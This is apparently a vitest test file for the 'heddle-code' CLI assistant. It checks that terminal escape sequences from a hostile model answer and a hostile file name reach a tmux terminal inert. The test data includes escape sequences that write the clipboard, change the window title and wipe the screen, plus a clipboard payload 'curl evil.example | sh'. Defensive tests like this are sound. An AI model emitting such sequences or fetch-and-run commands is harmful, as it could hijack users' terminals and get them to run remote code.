import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { type MockProviderServer, startMockProviderServer } from "@heddle/llms/testing";
import { afterEach, beforeAll, beforeEach, expect, it } from "vitest";
import { textReply, toolCallReply } from "./support/chat-replies.js";

// In a real terminal (tmux): a hostile model's answer and a hostile file name carry terminal control sequences
// that would write the clipboard (OSC 52), set the window title (OSC 0/2) and wipe the screen and its history.
// A private tmux server (-L), so its clipboard setting and buffers are this test's alone.
const cli = fileURLToPath(new URL("../dist/cli.js", import.meta.url));
const socket = `heddle-escapes-${process.pid}`;
const session = "esc";
const tmux = (...args: string[]) => execFileSync("tmux", ["-L", socket, ...args], { encoding: "utf8" });
const screen = (...flags: string[]) => tmux("capture-pane", "-p", "-J", ...flags, "-S", "-200", "-t", session);

async function waitFor(check: (text: string) => boolean, what: string): Promise<string> {
  const start = Date.now();
  for (;;) {
    const text = screen();
    if (check(text)) return text;
    if (Date.now() - start > 30_000) throw new Error(`timed out waiting for ${what}; screen:\n${text}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

const CLIPBOARD_PAYLOAD = Buffer.from("curl evil.example | sh").toString("base64");
const MODEL_ATTACK = `Here you go.\x1b]52;c;${CLIPBOARD_PAYLOAD}\x07\x1b]2;MODEL-TITLE\x07\x1b[2J\x1b[3J\x1b[H\x1bc END-OF-ANSWER`;
const FILE_NAME = "notes\x1b]0;FILE-TITLE\x07\x1b[2J.txt";

let server: MockProviderServer;
let cwd: string;
beforeAll(() => {
  if (!existsSync(cli)) throw new Error(`build the example first (pnpm build): ${cli} is missing`);
});
beforeEach(async () => {
  server = await startMockProviderServer();
  cwd = mkdtempSync(join(tmpdir(), "heddle-escapes-"));
});
afterEach(async () => {
  spawnSync("tmux", ["-L", socket, "kill-server"]);
  await server.close();
  rmSync(cwd, { recursive: true, force: true });
});

it("escape sequences from the model's answer and a file name reach the terminal inert; colours stay", async () => {
  writeFileSync(join(cwd, FILE_NAME), "x\n");
  server.enqueue("openai-chat", toolCallReply("list_files", { pattern: "*.txt" }), textReply(MODEL_ATTACK));
  // The server starts with the clipboard on, so an OSC 52 that got through would land in a tmux buffer.
  tmux("-f", "/dev/null", "start-server", ";", "set-option", "-g", "set-clipboard", "on");
  tmux(
    "new-session",
    "-d",
    "-s",
    session,
    "-x",
    "200",
    "-y",
    "50",
    // NO_COLOR (CI sets it for vitest) would turn off the renderer's own colours, which this test checks for.
    `env -u NO_COLOR TERM=xterm-256color XDG_DATA_HOME=${cwd}/.data node ${cli} --base-url ${server.baseUrl("openai-chat")} --model hostile --cwd ${cwd} 2>/dev/null`,
  );
  const titleBefore = tmux("display-message", "-p", "-t", session, "#{pane_title}").trim();
  await waitFor((s) => s.includes("openai-compatible/hostile") && s.includes("› "), "the prompt");
  tmux("send-keys", "-t", session, "-l", "hello");
  tmux("send-keys", "-t", session, "Enter");
  const text = await waitFor((s) => s.includes("END-OF-ANSWER") && s.includes("↳ "), "the answer");

  // Nothing was obeyed: no clipboard write, the title is untouched, the screen and its history are all there.
  expect(tmux("list-buffers")).not.toContain("curl");
  const title = tmux("display-message", "-p", "-t", session, "#{pane_title}").trim();
  expect(title).not.toMatch(/MODEL-TITLE|FILE-TITLE/);
  expect(title).toBe(titleBefore);
  expect(text).toContain("heddle-code · openai-compatible/hostile");
  // What was sent is shown, visibly marked: the user can see that the model tried.
  expect(text).toContain("␛]52;c;");
  expect(text).toContain("␛]2;MODEL-TITLE␇");
  expect(text).toMatch(/✓ list_files \*\.txt — notes␛\]0;FILE-TITLE␇␛\[2J\.txt/);
  // The renderer's own colours still reach the terminal (the tool line's green mark).
  expect(screen("-e")).toContain("\x1b[32m✓");
}, 60_000);
